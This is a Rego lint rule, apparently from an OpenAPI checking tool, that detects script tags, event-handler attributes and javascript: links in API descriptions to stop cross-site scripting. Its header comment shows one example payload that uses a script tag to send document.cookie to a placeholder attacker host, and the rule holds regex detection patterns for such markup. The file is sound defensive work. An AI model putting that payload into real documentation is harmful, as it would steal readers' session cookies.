# METADATA
# title: Descriptions contain no scripts
# description: |
#   No title, summary or description contains a `<script>` tag, an HTML
#   event handler attribute (`<img onerror=...>`) or a `javascript:` link.
#   Descriptions are Markdown that documentation portals render as HTML;
#   many allow inline HTML, so such text runs in the browser of everyone
#   who reads the API's documentation (cross-site scripting), and
#   descriptions are often assembled from sources that nobody reviews as
#   code.
#
#   Every title, summary and description of every file of the document is
#   checked (not examples, defaults and extensions, which hold data),
#   without regard to case. The rule reports on the text, saying what it
#   found.
#
#   ```yaml
#   description: |
#     Returns a pet. <script>fetch('https://evil.example/'+document.cookie)</script>  # bad
#   ```
# custom:
#   category: Documentation
#   maturity: Baseline
#   severity: warn
#   family: correctness
#   formats: [oas2, oas3]
#   peers: ["spectral:no-script-tags-in-markdown", "vacuum:no-script-tags-in-markdown", "redocly:no-unsafe-markdown"]
#   howToFix: |
#     Remove the HTML from the text. Describe code in words or in a fenced
#     code block, and link with plain Markdown links to https URLs.
package specgate.rules["no-unsafe-markdown"]

import data.specgate.lib.correctness

violations contains correctness.at(path, file, msg) if {
	some [candidates, pattern, what] in _checks
	some [path, text, file] in candidates
	regex.match(pattern, text)
	msg := sprintf("the %s contains %s, which runs as script where descriptions are rendered as HTML", [path[count(path) - 1], what])
}


# _checks are [candidate texts, pattern, what it finds]. The candidates
# are found by cheap tests over the whole prose: a case-insensitive
# "<script" and an "on...=" attribute after "<" have a literal prefix that
# regular expressions find fast; "javascript:" is searched as lower-case
# text.
_checks := [
	[correctness.texts_matching(`(?i:<script\b)`), `(?i:<script\b)`, "a <script> tag"],
	[correctness.texts_matching(`<[a-zA-Z][^>\n]*\s[oO][nN][a-zA-Z]+\s*=`), `(?i:<[a-z][^>\n]*\son[a-z]+\s*=)`, "an HTML event handler attribute"],
	[correctness.texts_containing("javascript:"), `(?i:(\]\(\s*|\b(href|src)\s*=\s*["']?\s*)javascript:)`, "a javascript: link"],
]
